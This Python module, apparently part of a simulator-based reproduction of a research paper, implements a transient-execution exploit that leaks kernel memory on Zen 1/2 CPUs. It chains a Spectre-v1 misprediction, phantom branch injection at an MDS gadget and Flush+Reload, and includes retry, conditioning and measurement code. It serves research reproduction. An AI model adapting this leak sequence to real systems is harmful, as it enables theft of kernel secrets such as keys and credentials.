"""Exploit 3: leaking kernel memory through an MDS gadget (paper §7.4).

An MDS gadget (Listing 4) performs only *one* attacker-controlled load
— useless to conventional Spectre, which needs a second,
secret-dependent load for the cache transmission.  P3 supplies that
second load: nested inside the bounds-check misprediction window, a
phantom prediction injected at the gadget's ``call parse_data`` sends
the frontend to a disclosure gadget that shifts the just-loaded byte
into a line offset and loads from the attacker's reload buffer
(shared with the kernel through physmap).  Flush+Reload reads the byte.

Preconditions (all obtainable with the previous exploits, §7.4): the
kernel image base, the physmap base, the physical address of the reload
buffer, and the gadget/array addresses (module layout is public).
"""

from __future__ import annotations

from dataclasses import dataclass
from typing import ClassVar

from ..kernel import MachineSpec, SYS_MDS
from ..kernel.layout import IMAGE_SIZE
from ..runner import JobContext, JobSpec, derive_seed
from ..sidechannel import ReloadBuffer
from .experiment import chunked
from .primitives import P3RegisterLeak, PhantomInjector


@dataclass
class MdsLeakResult:
    """Outcome of one kernel-memory leak run."""

    leaked: bytes
    expected: bytes
    seconds: float
    no_signal_bytes: int

    @property
    def accuracy(self) -> float:
        if not self.leaked:
            return 0.0
        good = sum(a == b for a, b in zip(self.leaked, self.expected))
        return good / len(self.expected)

    @property
    def bytes_per_second(self) -> float:
        return (len(self.leaked) / self.seconds if self.seconds
                else float("inf"))

    @property
    def signal(self) -> bool:
        """Did the run produce any signal at all (paper: 8 of 10 did)?"""
        return self.no_signal_bytes < len(self.expected)

    def to_dict(self) -> dict:
        return {"bytes": len(self.leaked), "accuracy": self.accuracy,
                "bytes_per_second": self.bytes_per_second,
                "no_signal_bytes": self.no_signal_bytes,
                "signal": self.signal,
                "simulated_seconds": self.seconds}


def leak_kernel_memory(machine, image_base: int, physmap_base: int, *,
                       n_bytes: int = 4096, start_offset: int = 0,
                       reload_buffer: ReloadBuffer | None = None,
                       reload_pa: int | None = None) -> MdsLeakResult:
    """Leak *n_bytes* of the kernel's secret region via the MDS gadget.

    ``reload_pa`` is the physical address of the reload buffer — found
    with :func:`repro.core.physaddr.find_physical_address` in the full
    chain; passing it explicitly lets benches isolate this stage.
    """
    if not machine.uarch.phantom_reaches_execute:
        raise ValueError(f"{machine.uarch.name}: P3 requires Zen 1/2")
    injector = PhantomInjector(machine)
    reload = reload_buffer or ReloadBuffer(machine)
    if reload_pa is None:
        reload_pa = machine.mem.aspace.translate_noperm(reload.va)
    reload_kva = physmap_base + reload_pa

    p3 = P3RegisterLeak(machine, injector=injector, reload_buffer=reload)
    call_site = machine.modules.sym("mds_call_site")
    gadget = machine.modules.sym("p3_gadget")
    array_va = machine.data_base + 0x40
    secret_va = machine.secret_va + start_offset

    def condition() -> None:
        # In-bounds calls keep the bounds check predicted toward the
        # load path; every out-of-bounds (taken) attack call pushes the
        # counter the other way, so conditioning must interleave with
        # the attack calls (standard Spectre-v1 discipline).  Their
        # phantom side effects land before the flush, so they cannot
        # pollute the reload measurement.
        for _ in range(2):
            machine.syscall(SYS_MDS, 1, reload_kva)

    start = machine.seconds()
    leaked = bytearray()
    no_signal = 0
    for i in range(n_bytes):
        user_index = (secret_va + i - array_va) & ((1 << 64) - 1)
        byte = None
        for _ in range(3):
            condition()
            byte = p3.leak_byte(
                call_site, gadget,
                lambda: machine.syscall(SYS_MDS, user_index, reload_kva),
                retries=1)
            if byte is not None:
                break
        if byte is None:
            no_signal += 1
            byte = 0
        leaked.append(byte)

    expected = machine.secret_bytes()[start_offset:start_offset + n_bytes]
    return MdsLeakResult(leaked=bytes(leaked), expected=expected,
                         seconds=machine.seconds() - start,
                         no_signal_bytes=no_signal)


@dataclass(frozen=True)
class MdsLeakExperiment:
    """The §7.4 campaign: the secret region in fixed byte ranges.

    Each chunk leaks one contiguous range on a fresh machine (identical
    machines hold identical secrets, so the ranges concatenate into the
    stream the serial leak produces).  Results arrive in spec order, so
    the reduce step stitches ``leaked``/``expected`` back together by
    simple concatenation.
    """

    name: ClassVar[str] = "mds-leak"

    machine: MachineSpec
    image_base: int
    physmap_base: int
    n_bytes: int = 4096
    start_offset: int = 0
    chunk_bytes: int = 1024             # fixed: never depends on --jobs

    def campaign_config(self) -> dict:
        return {"uarch": self.machine.uarch,
                "kaslr_seed": self.machine.kaslr_seed,
                "n_bytes": self.n_bytes,
                "start_offset": self.start_offset}

    def job_specs(self) -> list[JobSpec]:
        return [JobSpec.make(self.name, (index,),
                             derive_seed(self.machine.kaslr_seed, (index,)),
                             machine=self.machine, start=start, stop=stop)
                for index, start, stop in chunked(self.n_bytes,
                                                  self.chunk_bytes)]

    def run_one(self, spec: JobSpec, ctx: JobContext) -> MdsLeakResult:
        machine = ctx.boot(spec.machine)
        start, stop = spec.param("start"), spec.param("stop")
        return leak_kernel_memory(
            machine, self.image_base, self.physmap_base,
            n_bytes=stop - start,
            start_offset=self.start_offset + start)

    def reduce(self, results) -> MdsLeakResult:
        chunks = [r.value for r in results if r.ok]
        return MdsLeakResult(
            leaked=b"".join(c.leaked for c in chunks),
            expected=b"".join(c.expected for c in chunks),
            seconds=sum(c.seconds for c in chunks),
            no_signal_bytes=sum(c.no_signal_bytes for c in chunks))
